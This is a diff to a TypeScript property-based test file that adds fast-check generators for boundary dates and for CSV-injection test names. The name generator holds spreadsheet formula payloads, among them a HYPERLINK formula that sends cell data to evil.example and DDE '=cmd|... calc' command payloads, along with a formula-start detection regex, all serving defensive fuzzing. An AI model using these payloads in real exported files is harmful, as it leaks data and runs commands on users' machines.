@@ -113,12 +113,107 @@ const NASTY_STRINGS = [
 const anyString = fc.oneof(fc.constantFrom(...NASTY_STRINGS), fc.string({ maxLength: 80 }), fc.string({ unit: 'binary', maxLength: 40 }));
 const oddNumber = fc.oneof(fc.constantFrom(0, -1, -0, 1.5, 1e21, -1e21, Number.MAX_SAFE_INTEGER + 2, 10001, 1e9), fc.double({ noNaN: true, noDefaultInfinity: true }), fc.integer());
 
-/** Plausible dates around the e2e fixture (2017-12-01, two hours of data) and far away. */
+/** The latest instant a period may name (InfluxDB's int64 nanoseconds end on 2262-04-11, less margins). */
+export const LATEST_ACCEPTED_MS = Date.UTC(2262, 0, 1);
+
+/** A date or date-time as a client writes it, with the instant it means (undefined: not a date at all). */
+export interface WrittenDate {
+  text: string;
+  instantMs: number | undefined;
+}
+
+type DateForm = 'date' | 'date-time' | 'offset' | 'space';
+const dateForm = fc.tuple(fc.constantFrom<DateForm>('date', 'date-time', 'offset', 'space'), fc.integer({ min: -14, max: 14 }));
+
+/** One instant written as a date (its day at 00:00 UTC), a date-time, a date-time with an offset of `offsetH` hours, or with a space and minutes. */
+export function writeDate(d: Date, [form, offsetH]: [DateForm, number]): WrittenDate {
+  const iso = d.toISOString();
+  switch (form) {
+    case 'date':
+      return { text: iso.slice(0, 10), instantMs: Date.parse(`${iso.slice(0, 10)}T00:00:00Z`) };
+    case 'space':
+      return { text: `${iso.slice(0, 10)} ${iso.slice(11, 16)}`, instantMs: Date.parse(`${iso.slice(0, 16)}:00Z`) };
+    case 'offset': {
+      // The same instant in local time `offsetH` hours from UTC (a year past 9999 is no date at all).
+      const local = new Date(d.getTime() + offsetH * 3_600_000).toISOString().slice(0, 23);
+      const sign = offsetH < 0 ? '-' : '+';
+      return { text: `${local}${sign}${String(Math.abs(offsetH)).padStart(2, '0')}:00`, instantMs: /^\d{4}-/.test(local) ? d.getTime() : undefined };
+    }
+    default:
+      return { text: iso, instantMs: d.getTime() };
+  }
+}
+
+function written(instants: fc.Arbitrary<Date>): fc.Arbitrary<WrittenDate> {
+  return fc.tuple(instants, dateForm).map(([d, form]) => writeDate(d, form));
+}
+
+const between = (min: string, max: string) => fc.date({ min: new Date(min), max: new Date(max), noInvalidDate: true });
+
+/**
+ * Dates across everything ISO-8601 can write (years 0001–9999), as dates and date-times, most of
+ * them around the ends of the accepted range (1970-01-01, 2262-01-01) and of InfluxDB's (2262-04-11).
+ */
+export const representableDate: fc.Arbitrary<WrittenDate> = fc.oneof(
+  { arbitrary: written(between('0001-01-01T00:00:00Z', '9999-12-31T23:59:59.999Z')), weight: 2 },
+  { arbitrary: written(between('1970-01-01T00:00:00Z', '2261-12-31T23:59:59.999Z')), weight: 3 },
+  { arbitrary: written(between('1969-12-30T00:00:00Z', '1970-01-02T00:00:00Z')), weight: 2 },
+  { arbitrary: written(between('2261-12-30T00:00:00Z', '2262-01-02T00:00:00Z')), weight: 2 },
+  { arbitrary: written(between('2262-04-10T00:00:00Z', '2262-04-13T00:00:00Z')), weight: 1 },
+  { arbitrary: written(between('2017-11-20T00:00:00Z', '2017-12-10T00:00:00Z')), weight: 1 },
+  {
+    arbitrary: fc.constantFrom(
+      ...['0001-01-01', '0001-01-01T00:00:00Z', '1969-12-31', '1969-12-31T23:59:59.999Z', '1970-01-01', '1970-01-01T00:00:00Z', '2261-12-31', '2262-01-01', '2262-01-01T00:00:00Z'],
+      ...['2262-01-01T00:00:00.001Z', '2262-04-11', '2262-04-11T23:47:16Z', '2262-04-11T23:47:16.854775807Z', '2262-04-12', '2263-01-01', '9999-12-31', '9999-12-31T23:59:59Z'],
+    ).map((text): WrittenDate => ({ text, instantMs: Date.parse(text.length === 10 ? `${text}T00:00:00Z` : text) })),
+    weight: 2,
+  },
+);
+
+/**
+ * A period's begin (absent: the endpoint's default) and end: independent dates, or an end a short
+ * while to a little over a year after the begin, so that periods inside the range are common.
+ */
+export const periodBounds: fc.Arbitrary<[WrittenDate | undefined, WrittenDate]> = fc.oneof(
+  fc.tuple(fc.option(representableDate, { nil: undefined, freq: 8 }), representableDate),
+  fc
+    .tuple(representableDate, fc.oneof(fc.integer({ min: -3_600_000, max: 86_400_000 }), fc.integer({ min: 360 * 86_400_000, max: 372 * 86_400_000 })), dateForm)
+    .map(([begin, spanMs, form]): [WrittenDate, WrittenDate] => {
+      const end = new Date((begin.instantMs ?? 0) + spanMs);
+      return [begin, Number.isNaN(end.getTime()) ? begin : writeDate(end, form)];
+    }),
+);
+
+/** Whether the API must accept a written date as a period bound. */
+export function acceptedDate(d: WrittenDate): boolean {
+  return d.instantMs !== undefined && d.instantMs >= 0 && d.instantMs <= LATEST_ACCEPTED_MS;
+}
+
+/** Plausible dates around the e2e fixture (2017-12-01, two hours of data), and any year ISO-8601 can write. */
 const dateString = fc.oneof(
   fc.date({ min: new Date('2017-11-20T00:00:00Z'), max: new Date('2017-12-10T00:00:00Z'), noInvalidDate: true }).map((d) => d.toISOString()),
   fc.date({ min: new Date('2017-11-20T00:00:00Z'), max: new Date('2017-12-10T00:00:00Z'), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10)),
   fc.date({ min: new Date('1970-01-01T00:00:00Z'), max: new Date('2100-01-01T00:00:00Z'), noInvalidDate: true }).map((d) => d.toISOString()),
   fc.constantFrom('2017-12-01', '2017-12-02', '2017-12-01T01:00:00Z', '2017-12-01T00:30:00+01:00', '2017-12-01T02:00:00.000Z'),
+  representableDate.map((d) => d.text),
+);
+
+/** What a spreadsheet reads as the start of a formula (OWASP's list for CSV injection). */
+export const FORMULA_START = /^[=+\-@\t\r]/;
+
+/**
+ * Pod and namespace names as an InfluxDB tag may hold them (Kubernetes would refuse most): mostly
+ * starting with a formula character, with quotes, commas, spaces and operators after it.
+ */
+export const formulaName: fc.Arbitrary<string> = fc.oneof(
+  {
+    arbitrary: fc
+      .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string({ unit: fc.constantFrom(...'abz09-_.()"\',;:!/ =+-@|&%$'.split('')), maxLength: 24 }))
+      .map(([first, rest]) => first + rest),
+    weight: 5,
+  },
+  { arbitrary: fc.constantFrom('=HYPERLINK("http://evil.example/?"&A1,"Click")', '=cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+2', '-2+3', '\t=1', '\r=1'), weight: 2 },
+  { arbitrary: fc.stringMatching(/^[a-z0-9]([-a-z0-9]{0,20}[a-z0-9])?$/).filter((n) => n !== 'kube-system'), weight: 1 },
 );
 
 /** Values a schema would accept (or that are close enough to be worth sending), by field name first. */
